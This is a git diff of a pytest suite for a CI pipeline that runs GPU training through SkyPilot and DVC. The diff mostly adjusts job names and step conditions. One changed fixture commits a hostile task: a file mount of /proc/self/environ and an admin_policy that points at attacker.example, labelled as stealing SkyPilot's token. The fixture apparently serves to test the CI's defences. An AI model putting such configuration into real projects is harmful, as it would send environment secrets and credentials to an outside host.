@@ -4,11 +4,10 @@ from __future__ import annotations
 
 import json
 import re
-import shutil
 from typing import TYPE_CHECKING
 
 import pytest
-from ci.gpu_training import BRANCH, DOCS, GITHUB, SKY, WORKFLOWS, Training
+from ci.gpu_training import BRANCH, GITHUB, SKY, WORKFLOWS, Training
 from ci.retraining import history
 from publish.requests.request_forges import Host, open_host
 from ruamel.yaml import YAML
@@ -32,8 +31,8 @@ def untrained(tmp_path_factory: pytest.TempPathFactory) -> Project:
     """A branch with other data than main, on which nobody has trained yet; DVC's remote is a folder."""
     folder = tmp_path_factory.mktemp("untrained")
     project = history(folder / "project", folder / "store")
-    shutil.copy(DOCS / "sky-train.yaml", project.root)
-    project.branch(BRANCH).commit("a task for SkyPilot")
+    project.branch(BRANCH).write("sky-train.yaml", "file_mounts: {/tmp/stolen: /proc/self/environ}\n")
+    project.write(".sky.yaml", "admin_policy: https://attacker.example\n").commit("a task that steals SkyPilot's token")
     return project
 
 
@@ -119,13 +118,23 @@ class TestSkyPilot:
     ) -> None:
         run = training(SKY, untrained, host, tmp_path)
         trained = run.run("train")
-        assert json.loads(run.sky_jobs.read_text()) == {"train-1": "SUCCEEDED"}
+        assert json.loads(run.sky_jobs.read_text()) == {"train-1-2": "SUCCEEDED"}
         assert [call for call in trained.calls if call.startswith(("dvc repro", "dvc pu"))] == [
             "dvc repro --pull --allow-missing",
             "dvc push",
             "dvc pull results.patch.dvc",
         ]
         assert run.outputs["changed"] == "true"
+        patch = (run.artifacts["headway-results"] / "results.patch").read_text()
+        assert re.findall(r"^diff --git a/(\S+)", patch, re.MULTILINE) == FILES
+
+    @pytest.mark.slow
+    def test_it_trains_as_well_if_skypilot_copies_the_git_folder(
+        self, untrained: Project, host: Host, tmp_path: Path
+    ) -> None:
+        run = training(SKY, untrained, host, tmp_path)
+        run.environ = {"SKY_COPIES_GIT": "1"}
+        run.run("train")
         patch = (run.artifacts["headway-results"] / "results.patch").read_text()
         assert re.findall(r"^diff --git a/(\S+)", patch, re.MULTILINE) == FILES
 
@@ -142,10 +151,8 @@ class TestSkyPilot:
 
     @pytest.mark.slow
     def test_a_log_without_results_is_an_error(self, untrained: Project, host: Host, tmp_path: Path) -> None:
-        task = (untrained.root / "sky-train.yaml").read_text()
-        silent = untrained.copied(tmp_path / "silent").write("sky-train.yaml", re.sub(r"\n  echo .*", "", task))
-        silent.commit("a task that does not name its results")
-        run = training(SKY, silent, host, tmp_path)
+        run = training(SKY, untrained, host, tmp_path)
+        run.task = re.sub(r"\n  echo .*", "", run.task)
         trained = run.run("train", fails="Take the results")
         assert trained.ran[-1] == "Remove the credentials"
         assert not run.artifacts
@@ -155,7 +162,7 @@ class TestSkyPilot:
     ) -> None:
         run = training(SKY, untrained, host, tmp_path)
         step = run.step("train", "Cancel the job on the GPU")
-        assert step.condition == "failure() || cancelled()"
-        run.sky_jobs.write_text(json.dumps({"train-1": "RUNNING", "train-2": "RUNNING"}))
+        assert step.condition == "(failure() || cancelled()) && steps.train.outcome != 'skipped'"
+        run.sky_jobs.write_text(json.dumps({"train-1-1": "RUNNING", "train-1-2": "RUNNING"}))
         assert run.machine().run(step).returncode == 0
-        assert json.loads(run.sky_jobs.read_text()) == {"train-1": "CANCELLED", "train-2": "RUNNING"}
+        assert json.loads(run.sky_jobs.read_text()) == {"train-1-1": "RUNNING", "train-1-2": "CANCELLED"}
